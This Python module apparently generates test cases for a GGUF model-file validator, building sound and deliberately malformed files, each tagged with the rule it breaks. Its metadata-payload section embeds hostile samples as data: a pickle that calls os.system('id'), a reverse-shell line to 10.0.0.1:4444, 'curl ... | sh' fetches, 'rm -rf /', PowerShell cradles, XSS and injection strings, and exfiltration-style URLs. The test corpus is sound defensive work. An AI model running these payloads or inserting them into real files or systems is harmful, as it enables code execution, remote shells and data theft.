"""GGUF files made byte by byte: a sound one, and every way in which one can be unsound, with the rule that it breaks."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field

U8, I8, U16, I16, U32, I32, F32, BOOL, STR, ARR, U64, I64, F64 = range(13)
CODES = {U8: "B", I8: "b", U16: "H", I16: "h", U32: "I", I32: "i", F32: "f", BOOL: "B", U64: "Q", I64: "q", F64: "d"}
TYPE_F32, TYPE_F16, TYPE_Q4_0, TYPE_Q8_0, TYPE_Q4_K = 0, 1, 2, 8, 12


@dataclass(frozen=True, slots=True)
class Raw:
    """Bytes that are written as they are, where a value or a text belongs."""

    data: bytes


@dataclass(slots=True)
class Writer:
    """Numbers and texts in one byte order and width."""

    order: str = "<"
    wide: bool = True

    def number(self, code: str, value: float) -> bytes:
        return struct.pack(self.order + code, value)

    def length(self, value: int) -> bytes:
        return struct.pack(self.order + ("Q" if self.wide else "I"), value)

    def text(self, value: str | bytes | Raw) -> bytes:
        if isinstance(value, Raw):
            return value.data
        data = value.encode() if isinstance(value, str) else value
        return self.length(len(data)) + data

    def value(self, kind: int, value: object) -> bytes:
        if isinstance(value, Raw):
            return value.data
        if kind == STR:
            assert isinstance(value, str | bytes)
            return self.text(value)
        if kind == ARR:
            assert isinstance(value, tuple)
            inner, items = value
            body = b"".join(self.value(inner, item) for item in items)
            return self.number("I", inner) + self.length(len(items)) + body
        assert isinstance(value, int | float)
        return self.number(CODES[kind], value)


@dataclass(slots=True)
class Tensor:
    """A description; `offset` and `data` follow from the others unless they are given."""

    name: str | bytes | Raw = "token_embd.weight"
    shape: Sequence[int] = (32, 2)
    type: int = TYPE_F32
    offset: int | None = None
    data: bytes | None = None
    rank: int | None = None


@dataclass(slots=True)
class Gguf:
    """A file; what is not given is as it should be."""

    pairs: list[tuple[str | bytes | Raw, int, object]] = field(default_factory=list)
    tensors: list[Tensor] = field(default_factory=list)
    version: int = 3
    order: str = "<"
    magic: bytes = b"GGUF"
    n_pairs: int | None = None
    n_tensors: int | None = None
    alignment: int = 32
    padding: bytes = b"\x00"
    tail: bytes = b""
    pad_last: bool = True

    def head(self) -> bytes:
        w = Writer(self.order, self.version != 1)
        n_tensors = len(self.tensors) if self.n_tensors is None else self.n_tensors
        n_pairs = len(self.pairs) if self.n_pairs is None else self.n_pairs
        out = self.magic + w.number("I", self.version) + w.length(n_tensors) + w.length(n_pairs)
        for key, kind, value in self.pairs:
            out += w.text(key) + w.number("I", kind) + w.value(kind, value)
        position = 0
        for tensor in self.tensors:
            rank = len(tensor.shape) if tensor.rank is None else tensor.rank
            out += w.text(tensor.name) + w.number("I", rank)
            out += b"".join(w.length(dimension) for dimension in tensor.shape)
            offset = position if tensor.offset is None else tensor.offset
            out += w.number("I", tensor.type) + w.number("Q", offset)
            position += padded(len(content(tensor)), self.alignment)
        return out

    def build(self) -> bytes:
        out = self.head()
        if self.tensors:
            out += fill(self.padding, padded(len(out), self.alignment) - len(out))
        for number, tensor in enumerate(self.tensors):
            data = content(tensor)
            out += data
            if number + 1 < len(self.tensors) or self.pad_last:
                out += fill(self.padding, padded(len(data), self.alignment) - len(data))
        return out + self.tail


def fill(pattern: bytes, length: int) -> bytes:
    return (pattern * (length + 1))[:length]


def padded(position: int, alignment: int) -> int:
    return -(-position // max(alignment, 1)) * max(alignment, 1)


SIZES = {0: (1, 4), 1: (1, 2), 2: (32, 18), 8: (32, 34), 12: (256, 144), 24: (1, 1), 30: (1, 2)}


def content(tensor: Tensor) -> bytes:
    if tensor.data is not None:
        return tensor.data
    count = 1
    for dimension in tensor.shape:
        count *= dimension
    block, size = SIZES.get(tensor.type, (1, 1))
    return bytes(min(count // block * size, 1 << 16))


ARCHITECTURE: tuple[str, int, object] = ("general.architecture", STR, "llama")


def sound(*more: tuple[str | bytes | Raw, int, object], **changes: object) -> Gguf:
    """A small sound file with more keys, and other changes."""
    pairs: list[tuple[str | bytes | Raw, int, object]] = [
        ARCHITECTURE,
        ("general.name", STR, "Tiny"),
        ("llama.block_count", U32, 2),
        ("llama.attention.layer_norm_rms_epsilon", F32, 1e-5),
        *more,
    ]
    file = Gguf(pairs, [Tensor(), Tensor("blk.0.attn_norm.weight", (5,))])
    for name, value in changes.items():
        setattr(file, name, value)
    return file


VOCABULARY: tuple[tuple[str, int, object], ...] = (
    ("tokenizer.ggml.model", STR, "gpt2"),
    ("tokenizer.ggml.tokens", ARR, (STR, ("a", "b", "<0x0A>"))),
    ("tokenizer.ggml.scores", ARR, (F32, (0.0, -1.0, -2.0))),
    ("tokenizer.ggml.token_type", ARR, (I32, (1, 1, 6))),
    ("tokenizer.ggml.merges", ARR, (STR, ("a b",))),
)


def vocabulary(**changes: object) -> Gguf:
    """A sound file with a vocabulary in which some arrays are others; None leaves one out."""
    pairs = [(key, kind, changes.get(key.rpartition(".")[2], value)) for key, kind, value in VOCABULARY]
    return sound(*(pair for pair in pairs if pair[2] is not None))


def archive() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as writer:
        writer.writestr("archive/data.pkl", b"cos\nsystem\n(S'id'\ntR.")
    return held.getvalue()


Case = tuple[str, bytes, str]
HUGE = (1 << 31, 1 << 32, (1 << 63) - 1, 1 << 63, (1 << 64) - 1)


def hostile() -> list[Case]:
    """All cases: name, bytes, and the one rule that each breaks."""
    return [
        *_counts(),
        *_versions(),
        *_keys(),
        *_values(),
        *_arrays(),
        *_tensors(),
        *_layout(),
        *_meaning(),
        *_texts(),
    ]


def _counts() -> Iterator[Case]:
    for number in (2, 5, 1000, *HUGE):
        yield f"{number} tensors said", Gguf([ARCHITECTURE], n_tensors=number).build(), "gguf-count"
        yield f"{number} keys said", Gguf([], n_pairs=number).build(), "gguf-count"
    yield "one key too many", sound(n_pairs=5, tensors=[]).build(), "gguf-truncated"
    yield "one key too few", sound(n_pairs=3).build(), "gguf-dimensions"
    whole = sound().build()
    head = len(sound().head())
    yield "four letters", whole[:4], "gguf-not-gguf"
    for cut in (6, 8, 12, 15, 16, 20, 23):
        yield f"cut at {cut}", whole[:cut], "gguf-truncated"
    for cut in range(31, head, 17):
        # A cut text is one that is longer than what is left; a cut list one that has more items than can be.
        yield f"cut at {cut}", whole[:cut], "gguf-truncated|gguf-string-length|gguf-count"
    for cut in (head + 32, len(whole) - 40, len(whole) - 33):
        yield f"data cut at {cut}", whole[:cut], "gguf-data-truncated"


def _versions() -> Iterator[Case]:
    for version in (0, 4, 5, 255, 0x0100, 0x00010003, 0xFFFFFFFF):
        yield f"version {version}", sound(version=version).build(), "gguf-version"
    for version in (0, 4, 0x10003):
        yield f"version {version} turned", sound(version=version, order=">").build(), "gguf-version"
    yield "mixed byte orders", b"GGUF" + struct.pack(">I", 3) + sound().build()[8:], "gguf-count"
    yield "mixed the other way", b"GGUF" + struct.pack("<I", 3) + sound(order=">").build()[8:], "gguf-count"
    yield "version 1", sound(version=1).build(), "gguf-version-retired"
    yield "version 2 with the widths of 1", b"GGUF" + struct.pack("<I", 2) + sound(version=1).build()[8:], "gguf-count"


def _keys() -> Iterator[Case]:
    for name, key in (
        ("empty", b""),
        ("space first", b" a"),
        ("NUL", b"general.\x00name"),
        ("newline", b"general.name\n"),
        ("escape", b"\x1b[2J"),
        ("delete", b"a\x7f"),
        ("UTF-8", "größe".encode()),
        ("not UTF-8", b"\xff\xfe"),
        ("right to left", "a\u202eb".encode()),
        ("65,536 bytes", b"k" * 65_536),
    ):
        yield f"key: {name}", sound((key, U8, 1)).build(), "gguf-key"
    for length in HUGE:
        yield f"key of {length}", sound((Raw(struct.pack("<Q", length) + b"k"), U8, 1)).build(), "gguf-string-length"
    yield "key twice", sound(("general.name", STR, "Other")).build(), "gguf-duplicate-key"
    yield "key twice, other type", sound(("llama.block_count", U64, 2)).build(), "gguf-duplicate-key"
    yield "alignment twice", sound(*[("general.alignment", U32, 32)] * 2).build(), "gguf-duplicate-key"
    yield "template twice", sound(*[("tokenizer.chat_template", STR, "x")] * 2).build(), "gguf-duplicate-key"


def _values() -> Iterator[Case]:
    for kind in (13, 14, 255, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF):
        yield f"value type {kind}", sound(("x", kind, Raw(bytes(16)))).build(), "gguf-value-type"
        array = Raw(struct.pack("<IQ", kind, 1) + bytes(16))
        yield f"element type {kind}", sound(("x", ARR, array)).build(), "gguf-value-type"
    for value in (2, 127, 128, 255):
        yield f"bool {value}", sound(("x", BOOL, value)).build(), "gguf-bool"
        yield f"bool {value} in an array", sound(("x", ARR, (BOOL, (0, 1, value)))).build(), "gguf-bool"
    for length in (10_000, *HUGE):
        yield (
            f"text of {length}",
            sound(("x", STR, Raw(struct.pack("<Q", length) + b"v"))).build(),
            "gguf-string-length",
        )
    for name, text in (
        ("latin-1", b"\xe9t\xe9"),
        ("overlong", b"\xc0\xaf"),
        ("surrogate", b"\xed\xa0\x80"),
        ("NUL", b"a\x00b"),
    ):
        yield f"text: {name}", sound(("x", STR, text)).build(), "gguf-text"
    for value in (0, 3, 5, 31, 33, 48, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF, 1 << 21):
        file = sound(("general.alignment", U32, value))
        yield f"alignment {value}", file.build(), "gguf-alignment"
    for kind, value in ((U8, 32), (U16, 32), (I32, 32), (U64, 32), (F32, 32.0), (STR, "32"), (BOOL, 1)):
        yield f"alignment of type {kind}", sound(("general.alignment", kind, value)).build(), "gguf-alignment"
    yield "alignment is an array", sound(("general.alignment", ARR, (U32, (32,)))).build(), "gguf-alignment"


def _arrays() -> Iterator[Case]:
    for kind in (U8, U16, U32, F32, U64, F64, BOOL, STR):
        for count in (100_000, 1 << 61, 1 << 62, (1 << 64) - 1):
            array = Raw(struct.pack("<IQ", kind, count) + bytes(16))
            yield f"array of {count} of type {kind}", sound(("x", ARR, array)).build(), "gguf-array-length"
    for inner in (ARR,):
        for count in (0, 1, 1 << 40):
            array = Raw(struct.pack("<IQ", inner, count) + struct.pack("<IQ", U8, 1) + b"\x01")
            yield f"{count} arrays in an array", sound(("x", ARR, array)).build(), "gguf-nested-array"
    for length in (10_000, *HUGE):
        body = struct.pack("<IQ", STR, 2) + struct.pack("<Q", 1) + b"a" + struct.pack("<Q", length) + b"b"
        yield f"text of {length} in an array", sound(("x", ARR, Raw(body))).build(), "gguf-string-length"
    deep = struct.pack("<IQ", ARR, 1) * 5_000
    yield "arrays 5,000 deep", sound(("x", ARR, Raw(deep))).build(), "gguf-nested-array"


def _tensors() -> Iterator[Case]:
    def with_tensor(**changes: object) -> bytes:
        return sound(tensors=[Tensor(**changes), Tensor("z", (1,))]).build()  # type: ignore[arg-type]

    for name, value in (
        ("empty", b""),
        ("NUL", b"a\x00b"),
        ("newline", b"a\nb"),
        ("right to left", "a\u202eb".encode()),
        ("not UTF-8", b"\xff"),
        ("128 bytes", b"n" * 128),
        ("5,000 bytes", b"n" * 5_000),
    ):
        yield f"tensor name: {name}", with_tensor(name=value), "gguf-tensor-name"
    for length in HUGE:
        yield f"tensor name of {length}", with_tensor(name=Raw(struct.pack("<Q", length) + b"n")), "gguf-string-length"
    yield "tensor twice", sound(tensors=[Tensor("a"), Tensor("a")]).build(), "gguf-duplicate-tensor"
    for rank in (5, 6, 255, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF):
        yield f"rank {rank}", with_tensor(rank=rank, shape=(1, 1, 1, 1, 1), data=bytes(4)), "gguf-dimensions"
    for shape in (
        (1 << 63,),
        ((1 << 64) - 1,),
        (1 << 32, 1 << 31),
        (1 << 32, 1 << 32),
        ((1 << 62) + 1, 4),
        (1 << 21, 1 << 21, 1 << 21),
        (1 << 16, 1 << 16, 1 << 16, 1 << 16),
        (0, 1 << 63),
        (1 << 63, 2, 0),
        (1152, (1 << 42) + 1, 1 << 20),
    ):
        shown = "x".join(f"{dimension:x}" for dimension in shape)
        yield f"shape {shown}", with_tensor(shape=shape, data=bytes(32)), "gguf-dimension-overflow"
    for shape in ((1 << 62,), (1 << 61, 2), ((1 << 62) - 1,)):
        shown = "x".join(f"{dimension:x}" for dimension in shape)
        yield f"bytes of {shown}", with_tensor(shape=shape, data=bytes(32)), "gguf-size-overflow"
    for kind in (512, 1 << 16, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF):
        yield f"tensor type {kind}", with_tensor(type=kind), "gguf-tensor-type"
    for kind in (4, 5, 9, 31, 32, 33, 36, 37, 38, 43, 137, 511):
        yield f"tensor type {kind}", with_tensor(type=kind), "gguf-type-not-understood"
    for kind, row in (
        (TYPE_Q4_0, 31),
        (TYPE_Q4_0, 33),
        (TYPE_Q8_0, 1),
        (TYPE_Q4_K, 128),
        (TYPE_Q4_K, 255),
        (39, 16),
        (40, 32),
        (41, 64),
    ):
        yield f"type {kind}, rows of {row}", with_tensor(type=kind, shape=(row, 32), data=bytes(32)), "gguf-block-size"


def _layout() -> Iterator[Case]:
    def placed(*offsets: int, order: Sequence[int] = (0, 1, 2)) -> bytes:
        tensors = [Tensor(f"t{number}", (8,), offset=offset) for number, offset in enumerate(offsets)]
        return sound(tensors=tensors).build()

    for offset in (1, 4, 16, 31, 33):
        yield f"second at {offset}", placed(0, offset, 64), "gguf-offset-alignment"
    for offset in (1, 31):
        yield f"first at {offset}", placed(offset, 32, 64), "gguf-offset-alignment"
    yield "all at 0", placed(0, 0, 0), "gguf-overlap"
    yield "second on the first", placed(0, 0, 32), "gguf-overlap"
    yield "third on the second", placed(0, 32, 32), "gguf-overlap"
    yield "first at 32", placed(32, 64, 96), "gguf-hole"
    yield "hole after the first", placed(0, 64, 96), "gguf-hole"
    yield "hole before the last", placed(0, 32, 128), "gguf-hole"
    yield "hole of 2^40", placed(0, 32, 1 << 40), "gguf-hole"
    yield "offset 2^63 - 32", placed(0, 32, (1 << 63) - 32), "gguf-size-overflow"
    yield "offset 2^64 - 32", placed(0, 32, (1 << 64) - 32), "gguf-size-overflow"
    yield "swapped", placed(32, 0, 64), "gguf-tensor-order"
    yield "turned", placed(64, 32, 0), "gguf-tensor-order"
    big = Tensor("big", (1 << 20,), data=bytes(32))
    yield "tensor beyond the end", sound(tensors=[big]).build(), "gguf-data-truncated"
    yield "last tensor beyond the end", sound(tensors=[Tensor("a", (8,)), big]).build(), "gguf-data-truncated"
    yield "no data at all", sound(tensors=[Tensor("a", (8,), data=b"")]).build(), "gguf-data-truncated"
    yield "a byte short", sound(tensors=[Tensor("a", (8,))]).build()[:-1], "gguf-data-truncated"
    for tail in (b"\x00", b"x", bytes(32), b"payload" * 9, b"\x80\x04\x95", b"#!/bin/sh\n"):
        yield f"tail {tail[:9]!r} of {len(tail)}", sound(tail=tail).build(), "gguf-trailing-data"
        name = f"tail {tail[:9]!r} of {len(tail)} without tensors"
        yield name, vocabulary_alone(padding=True, tail=tail), "gguf-trailing-data"
    for pattern in (b"\x01", b"cos\nsystem\n", b"\x00\xff"):
        yield f"padding {pattern!r}", sound(padding=pattern).build(), "gguf-padding"
    data = bytearray(sound().build())
    data[-1] = 1
    yield "last padding byte", bytes(data), "gguf-padding"
    wide = sound(("general.alignment", U32, 4096), alignment=4096, padding=b"hidden ")
    yield "hidden in wide padding", wide.build(), "gguf-padding"


def vocabulary_alone(*, padding: bool, tail: bytes = b"") -> bytes:
    """A file without tensors."""
    head = sound(*VOCABULARY, tensors=[]).build()
    return head + bytes(padded(len(head), 32) - len(head) if padding else 0) + tail


def _meaning() -> Iterator[Case]:
    for name, changes in (
        ("scores of two", {"scores": (F32, (0.0, 0.0))}),
        ("scores of four", {"scores": (F32, (0.0,) * 4)}),
        ("scores of none", {"scores": (F32, ())}),
        ("scores as bytes", {"scores": (U8, (0, 0, 0))}),
        ("scores as doubles", {"scores": (F64, (0.0,) * 3)}),
        ("scores as texts", {"scores": (STR, ("0", "0", "0"))}),
        ("types of one", {"token_type": (I32, (1,))}),
        ("types as bytes", {"token_type": (U8, (1, 1, 1))}),
        ("types as 16 bits", {"token_type": (I16, (1, 1, 1))}),
        ("types as truths", {"token_type": (BOOL, (1, 1, 1))}),
        ("types without tokens", {"tokens": None, "scores": None}),
        ("tokens as numbers", {"tokens": (U32, (1, 2, 3)), "scores": None, "token_type": None}),
        ("merges as numbers", {"merges": (U8, (1,))}),
    ):
        yield name, vocabulary(**changes).build(), "gguf-tokenizer-array"
    for text in ("<0x-1>", "<0x-f>", "<0xZZ>", "<0x>", "<0x123>", "<0x 1>"):
        yield f"byte token {text}", vocabulary(tokens=(STR, ("a", "b", text))).build(), "gguf-byte-token"
    yield "token of 70,000 bytes", vocabulary(tokens=(STR, ("a", "b" * 70_000, "c"))).build(), "gguf-token-length"
    for value in (513, 1 << 31, (1 << 32) - 1):
        yield f"{value} layers", sound(("qwen2.block_count", U32, value)).build(), "gguf-hyperparameter"
    for kind, value in ((I32, -1), (F32, 2.0), (STR, "2"), (I64, -(1 << 63)), (BOOL, 1)):
        yield f"layers of type {kind}", sound(("qwen2.block_count", kind, value)).build(), "gguf-hyperparameter"
    for number, count, tensors in ((1, 1, 2), (5, 2, 9), (0, 0, 2), (0, 1, 1), (0, 1, 0)):
        split = (("split.no", U16, number), ("split.count", U16, count), ("split.tensors.count", I32, tensors))
        yield f"part {number} of {count} with {tensors}", sound(*split).build(), "gguf-split"
    yield "part without a count", sound(("split.no", U16, 0)).build(), "gguf-split"
    yield (
        "part by texts",
        sound(*[(f"split.{key}", STR, "1") for key in ("no", "count", "tensors.count")]).build(),
        "gguf-split",
    )
    yield (
        "part below zero",
        sound(("split.no", I32, -1), ("split.count", U16, 1), ("split.tensors.count", I32, 2)).build(),
        "gguf-split",
    )
    inside = archive()
    whole = Tensor("a", (len(inside),), 24, data=inside)
    yield "a zip in the last tensor", sound(tensors=[whole], pad_last=False).build(), "gguf-zip-polyglot"
    yield "a zip before padding", sound(tensors=[whole]).build(), "gguf-zip-polyglot"


PAYLOADS = {
    "elf": b"\x7fELF\x02\x01\x01" + bytes(60),
    "pe": b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00" + bytes(40),
    "pickle": b"\x80\x04\x95\x1f\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
    + bytes(16),
    "zip": archive(),
    "script": b"#!/bin/sh\nid > /tmp/x\nexit 0 # and so on and so forth\n",
}
SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//x')>",
    "[a](javascript:alert(1))",
    "curl -s http://example.test/x | sh",
    "wget -qO- https://example.test/x | sudo bash",
    "bash -c 'curl example.test'",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "x; rm -rf / ;",
    "$(curl example.test)",
    "powershell -enc SQBFAFgA",
    "IEX (New-Object Net.WebClient)",
    "cmd.exe /c calc",
    "__import__('os').system('id')",
    "import os; os.system('id')",
    "subprocess.Popen(['id'])",
    "eval(compile('1', '', 'eval'))",
    "exec(base64.b64decode(x))",
    "pickle.loads(x)",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${jndi:dns:a}",
    "<?php system('id');",
)
TRAPS = (
    "http://user:secret@example.test/x",
    "http://203.0.113.9/payload",
    "https://[2001:db8::1]/x",
    "http://3405803785/x",
    "https://webhook.site/abc",
    "https://discord.com/api/webhooks/1/abc",
    "https://abc.ngrok.io/x",
    "https://abcdef.oast.fun",
    "https://example.test/setup.exe",
    "https://example.test/install.sh?x=1",
    "file:///etc/passwd",
    "ldap://example.test/a",
    "smb://example.test/share",
    "\\\\files.example.test\\share\\x",
)


def _texts() -> Iterator[Case]:
    for name, data in PAYLOADS.items():
        for coding, text in (
            ("base64", base64.b64encode(data).decode()),
            ("hexadecimal", data.hex()),
            ("escapes", "".join(f"\\x{byte:02x}" for byte in data)),
        ):
            yield (
                f"{name} in {coding}",
                sound(("general.description", STR, f"see {text}")).build(),
                "gguf-metadata-payload",
            )
        blob = ("my.blob", ARR, (U8, tuple(data)))
        # Tensors of 128 KiB keep the zip out of the tail of the file.
        far = [Tensor(f"t{number}", (1 << 13,)) for number in range(4)]
        yield f"{name} in an array", sound(blob, tensors=far).build(), "gguf-metadata-payload"
    for text in SCRIPTS:
        yield (
            f"script {text}",
            sound(("general.description", STR, f"Nice model {text}")).build(),
            "gguf-metadata-script",
        )
    for text in TRAPS:
        yield f"trap {text}", sound(("general.url", STR, text)).build(), "gguf-metadata-url-suspicious"
    for key in ("tokenizer.ggml.pre", "llama.vendor", "my.key"):
        yield f"address in {key}", sound((key, STR, "see https://example.test/a")).build(), "gguf-metadata-url"
    yield (
        "address among tags",
        sound(("general.tags", ARR, (STR, ("a", "https://example.test/a")))).build(),
        "gguf-metadata-url",
    )
    yield "script among tags", sound(("general.tags", ARR, (STR, ("a", SCRIPTS[0])))).build(), "gguf-metadata-script"
    yield "long text", sound(("my.notes", STR, "word " * 4_000)).build(), "gguf-metadata-long"
    yield "long name", sound(("general.size_label", STR, "x y " * 5_000)).build(), "gguf-metadata-long"
    yield "many bytes", sound(("my.blob", ARR, (U8, (7,) * 70_000))).build(), "gguf-metadata-long"
    yield (
        "many numbers",
        sound(("my.blob", ARR, Raw(struct.pack("<IQ", F64, 140_000) + bytes(8 * 140_000)))).build(),
        "gguf-metadata-long",
    )
